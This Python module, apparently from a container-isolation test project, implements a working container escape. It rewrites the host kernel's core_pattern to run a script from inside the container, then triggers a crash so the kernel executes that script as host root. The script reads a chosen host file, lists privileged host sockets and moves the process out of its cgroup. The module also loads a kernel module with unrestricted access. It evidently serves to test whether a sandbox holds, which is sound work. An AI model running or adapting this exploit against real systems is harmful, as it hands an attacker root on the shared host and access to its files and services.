# Copyright (c) 2026, the ringfence.zones authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Break out of the container into the kernel that it shares: let that kernel start a program in its first namespaces, as its root.

Whoever runs the container's kernel is reached by this. In a zone that is the zone. It also makes this process free of the container's
device rules, and gives it the kernel's devices below ``DEVICES``, for the attacks that follow.
"""

from __future__ import annotations

import ctypes
import os
import signal
import time
from pathlib import Path

DEVICES = Path("/attack/dev")
PROC = Path("/attack/proc")
_OUT = Path("/attack/out")
_HANDLER = Path("/attack/handler")
_PATIENCE = 30
_SYS_FINIT_MODULE = 313
_LIBC = ctypes.CDLL(None, use_errno=True)

# The kernel starts it with the number of the process that crashed. It looks, leaves a trace, and frees the parent of that process.
_SCRIPT = """#!/bin/sh
out=/proc/$1/root/attack/out
echo "$2" >/run/ringfence-attack-canary
cat "$3" >$out/file 2>/dev/null
for socket in /run/libvirt/libvirt-sock /run/dbus/system_bus_socket /run/systemd/private; do
    [ ! -S $socket ] || echo $socket
done >$out/sockets
while read -r name value; do [ "$name" != PPid: ] || echo "$value" >/sys/fs/cgroup/cgroup.procs; done </proc/$1/status
"""
_DONE = "echo done >$out/done\n"


def attack(token: str, file: str, then: str = "") -> list[list[object]]:
    """Break out.

    :param token: what is left as a trace outside the container.
    :param file: one of the host, which is read if it is there.
    :param then: what the shell that the kernel starts does besides; ``$1`` is the number of a process in the container.
    """
    for place in (DEVICES, PROC, _OUT):
        place.mkdir(parents=True, exist_ok=True)
    for kind, place in (("proc", PROC), ("devtmpfs", DEVICES)):
        if not place.is_mount():
            _mount(kind, place)
    for stale in _OUT.iterdir():
        stale.unlink()
    _HANDLER.write_text(f"{_SCRIPT}{then}\n{_DONE}", encoding="ascii")
    _HANDLER.chmod(0o755)
    pattern = PROC / "sys/kernel/core_pattern"
    before = pattern.read_text(encoding="ascii")
    pattern.write_text(f"|/proc/%P/root{_HANDLER} %P {token} {file}", encoding="ascii")
    try:
        child = os.fork()
        if child == 0:
            os.kill(os.getpid(), signal.SIGSEGV)
            os._exit(1)
        os.waitpid(child, 0)
        deadline = time.monotonic() + _PATIENCE
        while not (_OUT / "done").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        pattern.write_text(before, encoding="ascii")
    if not (_OUT / "done").exists():
        return [["escape", None, "the kernel did not start the handler of crashes"]]
    _load(f"/attack/xen-privcmd-{os.uname().release}.ko", b"unrestricted=1")
    found = (_OUT / "file").read_text(encoding="utf-8", errors="replace").strip()
    sockets = (_OUT / "sockets").read_text(encoding="utf-8", errors="replace").split()
    return [
        ["escape", True, "the kernel started a program outside the container"],
        ["read a file of the host", found == token, "its content was there" if found == token else "it is not there"],
        ["find a socket of the host", bool(sockets), " ".join(sockets) or "there is none"],
    ]


def _mount(kind: str, place: Path) -> None:
    if _LIBC.mount(kind.encode(), str(place).encode(), kind.encode(), 0, None) != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), str(place))


def _load(module: str, arguments: bytes) -> None:
    """Load a module if it was brought along, and its devices are not there; a kernel that refuses it lacks them."""
    if not os.path.exists(module) or (DEVICES / "xen/privcmd").exists():
        return
    descriptor = os.open(module, os.O_RDONLY)
    try:
        _LIBC.syscall(_SYS_FINIT_MODULE, descriptor, arguments, 0)
    finally:
        os.close(descriptor)
